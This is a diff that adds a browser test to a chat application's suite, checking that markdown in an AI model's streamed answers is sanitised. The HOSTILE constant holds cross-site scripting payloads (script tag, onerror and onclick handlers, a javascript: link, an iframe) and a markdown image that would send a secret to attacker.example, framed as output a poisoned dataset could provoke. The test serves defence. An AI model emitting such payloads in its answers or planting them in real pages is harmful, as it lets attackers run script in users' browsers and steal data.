@@ -122,3 +122,76 @@ browserTest("ask in the browser, watch the answer stream, see the chart, reload 
     await fake.close();
   }
 });
+
+/** An answer a poisoned dataset could provoke: every way markdown can carry script or leak data. */
+const HOSTILE = [
+  "Here is the summary.",
+  "",
+  '<script>window.pwned = "script"</script>',
+  '<img src="x" onerror="window.pwned = \'onerror\'">',
+  "![chart](https://attacker.example/leak?secret=42)",
+  "[click me](javascript:window.pwned='link')",
+  '<a href="https://example.com" onclick="window.pwned=\'click\'">site</a>',
+  '<iframe src="https://attacker.example"></iframe>',
+  "",
+  "```sql",
+  "select weather, count(*) from days group by weather",
+  "```",
+].join("\n");
+
+browserTest("markdown in answers is rendered with code highlighted and nothing that runs or leaks", async (browser) => {
+  const fake = startFakeOpenAI(() => ({ text: HOSTILE, pieceSize: 40 }));
+  const t = await startTestApp("pglite", { OPENAI_BASE_URL: fake.url, LLM_MODEL: "fake-gpt" });
+  const server = serve((req, info) => t.fetch(req, info));
+  try {
+    const { cookie } = await t.signUp();
+    const sessionId = (await t.call("/api/chat/sessions", { cookie, body: { title: "Hostile" } }).then((r) =>
+      r.body
+    )) as {
+      id: string;
+    };
+    const [name, value] = cookie.split("=");
+    const context = await browser.newContext();
+    await context.addCookies([{ name, value, url: server.url }]);
+    const page = await context.newPage();
+    const requests: string[] = [];
+    page.on("request", (r) => requests.push(r.url()));
+    await page.goto(`${server.url}/chat/${sessionId.id}`);
+    await page.waitForSelector("html[data-hydrated=true]");
+    await page.fill("textarea[name=content]", "Summarise");
+    await page.keyboard.press("Enter");
+    await page.waitForSelector("[data-testid=message-assistant] .hljs-keyword");
+    await page.waitForSelector("[data-testid=stop]", { state: "detached" });
+
+    const check = async () => {
+      const md = page.locator("[data-testid=message-assistant] .md");
+      match(await md.textContent() ?? "", /Here is the summary/);
+      const found = await md.evaluate((root) => ({
+        scripts: root.querySelectorAll("script, iframe").length,
+        images: Array.from(root.querySelectorAll("img")).map((i) => i.getAttribute("src")),
+        handlers: Array.from(root.querySelectorAll("*")).flatMap((e) =>
+          Array.from(e.attributes).map((a) => a.name).filter((n) => n.startsWith("on"))
+        ),
+        links: Array.from(root.querySelectorAll("a")).map((a) => [a.getAttribute("href"), a.getAttribute("rel")]),
+        pwned: (window as unknown as { pwned?: string }).pwned ?? null,
+      }));
+      deepStrictEqual(found, {
+        scripts: 0,
+        images: [],
+        handlers: [],
+        // The javascript: link is not a link at all; the https one opens apart from the app.
+        links: [["https://example.com", "noopener noreferrer nofollow"]],
+        pwned: null,
+      });
+      ok(!requests.some((u) => u.includes("attacker.example")), "nothing was fetched from the attacker");
+    };
+    await check();
+    await page.reload();
+    await page.waitForSelector("[data-testid=message-assistant] .hljs-keyword");
+    await check();
+  } finally {
+    await server.close();
+    await t.close();
+    await fake.close();
+  }
+});
